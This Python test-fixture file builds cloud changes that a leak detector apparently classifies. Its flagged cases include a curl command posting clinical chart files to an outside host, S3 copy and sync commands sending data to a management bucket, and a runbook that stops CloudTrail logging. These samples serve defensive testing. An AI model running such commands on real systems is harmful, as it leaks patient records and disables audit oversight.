"""What programs in the input name and call: documents, start scripts, commands, variables; and what is not there."""

from __future__ import annotations

import json
from typing import Any

from change_builders import READER, Change, add, changed, combined, without_perimeter
from data_path_builders import Case, arn
from leaks_by_data_path import DECLARED
from leaks_by_name import DOMAINS
from small_estate import MANAGEMENT, NORTH, REGION

STACK = "aws:cloudformation/stack:Stack"
REFERENCE = "pulumi:pulumi:StackReference"
IMAGE = f"{NORTH}.dkr.ecr.{REGION}.amazonaws.com/ehr@sha256:{'a' * 64}"


def document(action: str, kind: str = "Command", **inputs: Any) -> Change:
    """A document of the practice with one step."""
    content = {"schemaVersion": "2.2", "mainSteps": [{"name": "a", "action": action, "inputs": inputs}]}
    return add("aws:ssm/document:Document", "steps", NORTH, "steps", name="steps", documentType=kind,
               content=json.dumps(content), arn=arn("ssm", NORTH, "document/steps"))  # fmt: skip


def shell(*commands: str) -> Change:
    """A document of the practice that runs commands on instances."""
    return document("aws:runShellScript", runCommand=list(commands))


def script(*lines: str) -> Change:
    """A runbook of the practice that runs a script in Python."""
    return document("aws:executeScript", "Automation", Runtime="python3.11", Handler="run", Script="\n".join(lines))


def container(**properties: Any) -> Change:
    """A task of the practice, where the domains of both are in the input."""
    run = [{"name": "ehr", "image": IMAGE, **properties}]
    return combined(DOMAINS, add("aws:ecs/taskDefinition:TaskDefinition", "task", NORTH, family="ehr",
                                 taskRoleArn=READER, containerDefinitions=json.dumps(run)))  # fmt: skip


def told(**variables: str) -> Change:
    """The application, with these environment variables, where the domains of both are in the input."""
    return combined(DOMAINS, changed("ehr", environment={"variables": variables}))


def stack(principal: Any, **parameters: Any) -> Change:
    """A stack of the practice that declares a role for a principal."""
    trust = {"Statement": [{"Effect": "Allow", "Action": "sts:AssumeRole", "Principal": {"AWS": principal}}]}
    may = {"Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}
    policies = [{"PolicyName": "p", "PolicyDocument": may}]
    role = {"RoleName": "x", "AssumeRolePolicyDocument": trust, "Policies": policies}
    body = {"Parameters": parameters, "Resources": {"R": {"Type": "AWS::IAM::Role", "Properties": role}}}
    return combined(without_perimeter, add(STACK, "stack", NORTH, name="stack", templateBody=json.dumps(body)))


BOTO = "import boto3"
CASES: list[Case] = [
    ("a document copies to management", "W3", "UNKNOWN", shell("aws s3 cp /var/charts s3://ledger/ --recursive")),
    ("a document fetches from management by path", "W3", "UNKNOWN", document(
        "aws:downloadContent", sourceType="S3",
        sourceInfo='{"path": "https://s3.us-east-1.amazonaws.com/ledger/agent.sh"}')),
    ("a document sends to a host of the MSO", "W3", "UNKNOWN", combined(
        DOMAINS, shell("curl --data-binary @/var/charts https://in.mso.example/x"))),
    ("a document changes a bucket's policy", "W1", "UNKNOWN", shell(
        "aws --region us-east-1 s3api put-bucket-policy --bucket photos --policy file://p")),
    ("a script in a runbook copies to management", "W3", "UNKNOWN", script(
        BOTO, "def run(e, c):", "  boto3.client('s3').copy_object(Bucket='ledger', CopySource='photos/a', Key='a')")),
    ("a script in a runbook attaches a policy", "W6", "UNKNOWN", script(
        BOTO, "iam = boto3.client('iam')", "def run(e, c):", "  iam.attach_role_policy(RoleName='a', PolicyArn='b')")),
    ("a script in a runbook stops the trail", "W8", "UNKNOWN", script(
        BOTO, "def run(e, c):", "  boto3.client('cloudtrail').stop_logging(Name='trail')")),
    ("a container is told a collector of the MSO", "W3", "UNKNOWN", container(
        environment=[{"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "https://otel.mso.example:4317"}])),
    ("a container is told a bucket of management", "W3", "UNKNOWN", container(
        environment=[{"name": "EXPORT_BUCKET", "value": "ledger"}])),
    ("a container copies to management", "W3", "UNKNOWN", container(
        command=["sh", "-c", "aws s3 sync /data s3://ledger/in"])),
    ("the application is told a webhook of the MSO", "W3", "UNKNOWN", told(WEBHOOK="https://in.mso.example/charts")),
    ("the application is told a queue of management", "W3", "UNKNOWN", told(
        QUEUE=f"https://sqs.us-east-1.amazonaws.com/{MANAGEMENT}/in")),
    ("a broker is told a second target", "W3", "UNKNOWN", combined(DOMAINS, changed(
        "broker", environment={"variables": {**DECLARED, "TARGET_URL": "https://in.mso.example"}}))),
    ("a stack trusts whom a parameter of the store names", "W6", "UNKNOWN", stack("{{resolve:ssm:/mso/principal}}")),
    ("a stack trusts whom a parameter of that type names", "W6", "UNKNOWN", stack(
        {"Ref": "P"}, P={"Type": "AWS::SSM::Parameter::Value<String>", "Default": "/mso/principal"})),
    ("a stack of management reads the practice's state", "W10", "UNKNOWN", add(
        REFERENCE, "theirs", MANAGEMENT, name="organization/mso/clinical-north")),
    ("a stack of the practice believes management's state", "W10", "UNKNOWN", add(
        REFERENCE, "theirs", NORTH, name="organization/mso/management")),
]  # fmt: skip

BENIGN_CHANGES: list[tuple[str, Change]] = [
    ("a document copies within the practice", shell("aws s3 cp /var/charts s3://photos/ --recursive")),
    ("a document fetches a public package", combined(DOMAINS, shell("curl -O https://packages.example.org/a.rpm"))),
    ("a document reads settings", shell("aws ec2 describe-instances", "aws s3api get-bucket-location --bucket photos")),
    ("a word of a document is a bucket's name", shell("echo writing the ledger now")),
    ("a script in a runbook reads settings", script(
        BOTO, "def run(e, c):", "  return boto3.client('rds').describe_db_instances()")),
    ("a container is told hosts and buckets of the practice", container(
        command=["serve", "--port", "443"],
        environment=[{"name": "ISSUER", "value": "https://id.north.example"}, {"name": "BUCKET", "value": "photos"}])),
    ("the application is told an address of mail", told(SUPPORT="it@mso.example", LOG_LEVEL="info")),
    ("a stack trusts a role of the practice", stack(f"arn:aws:iam::{NORTH}:role/mso/custodian")),
    ("a stack of the practice reads the state of another stack of it", add(
        REFERENCE, "own", NORTH, name="organization/mso/exchange-north")),
]  # fmt: skip
